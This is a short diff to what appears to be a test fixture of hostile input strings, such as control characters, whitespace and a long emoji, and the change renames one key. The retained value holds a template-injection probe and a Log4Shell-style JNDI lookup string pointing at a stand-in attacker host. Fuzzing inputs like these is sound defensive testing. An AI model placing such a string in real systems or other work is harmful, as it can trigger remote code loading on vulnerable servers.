@@ -27,7 +27,7 @@ HOSTILE = {
     "controls": "\x01\x1b[2J\x7f\u2028\ufeff\ufffe",
     "nothing but spaces": " \t\u00a0",
     "an emoji of many parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
-    "template signs": "{{7*7}} ${jndi:ldap://attacker.example.org/a} %s {0}",
+    "template markup": "{{7*7}} ${jndi:ldap://attacker.example.org/a} %s {0}",
 }
 
 
